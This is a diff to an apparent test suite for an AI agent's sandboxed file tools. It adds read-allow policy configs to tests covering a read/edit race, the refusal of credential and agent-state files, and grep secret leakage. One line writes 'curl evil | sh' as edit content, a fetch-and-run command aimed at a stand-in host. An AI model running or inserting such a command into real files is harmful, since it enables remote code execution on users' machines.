@@ -113,7 +113,10 @@ def _race(raw_agent_factory, tmp_path, workspace, mode, tool, rounds=200, per_st
                   else {"path": rel, "old_string": "same", "new_string": "curl evil | sh"})
         steps = [[call for _ in range(per_step) for call in (("read", {"path": rel}), (tool, change))]
                  for _ in range(rounds // per_step)]
-        results, _, _ = run_calls(raw_agent_factory, workspace, steps, env={"AGENT_SERVER_CONTEXT_WINDOW": "1000000"})
+        config = tmp_path / "config.toml"  # a read through the link out of the roots would ask: allowed here
+        config.write_text(f'[policy]\nread_allowed = ["{outside}"]\n')
+        results, _, _ = run_calls(raw_agent_factory, workspace, steps, env={"AGENT_SERVER_CONTEXT_WINDOW": "1000000",
+                                                                             "AGENT_SERVER_CONFIG": str(config)})
     finally:
         stop.write_text("")
         flipper.wait(timeout=HANG)
@@ -202,7 +205,8 @@ def test_config_state_and_credential_files_are_refused_to_file_tools(raw_agent_f
     (home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: GH-TOKEN-MATERIAL\n")
     config = tmp_path / "conf" / "config.toml"
     config.parent.mkdir()
-    config.write_text(f'api_key = "{KEY}"\nmodel = "test-model"\n')
+    # the home folder is read without a question (a read outside the roots asks): the protected places stay refused
+    config.write_text(f'api_key = "{KEY}"\nmodel = "test-model"\n[policy]\nread_allowed = ["{home}", "{config.parent}"]\n')
     other = agent_state_dir / "sessions" / "other-session"
     other.mkdir(parents=True)
     (other / "notes.txt").write_text('{"secret": "OTHER-SESSION-MATERIAL"}\n')
@@ -253,7 +257,10 @@ def test_grep_said_whether_a_hidden_secret_matched_the_pattern(raw_agent_factory
              ({"pattern": "SAVED TH[I]S", "path": str(agent_state_dir.parent), "glob": "*.jsonl"},
               {"pattern": "SAVED TH[X]S", "path": str(agent_state_dir.parent), "glob": "*.jsonl"})]
     calls = [("grep", args) for pair in pairs for args in pair]
-    results, _, _ = run_calls(raw_agent_factory, workspace, [calls], env={"HOME": str(home)})
+    config = tmp_path / "config.toml"  # searches outside the roots ask; these places are allowed to be searched
+    config.write_text(f'[policy]\nread_allowed = ["{home}", "{agent_state_dir.parent}"]\n')
+    results, _, _ = run_calls(raw_agent_factory, workspace, [calls],
+                              env={"HOME": str(home), "AGENT_SERVER_CONFIG": str(config)})
     for n, (hit, miss) in enumerate(pairs):
         seen_hit, seen_miss = results[f"c0_{2 * n}"], results[f"c0_{2 * n + 1}"]
         assert seen_hit.replace(hit["pattern"], "P") == seen_miss.replace(miss["pattern"], "P"), (seen_hit, seen_miss)
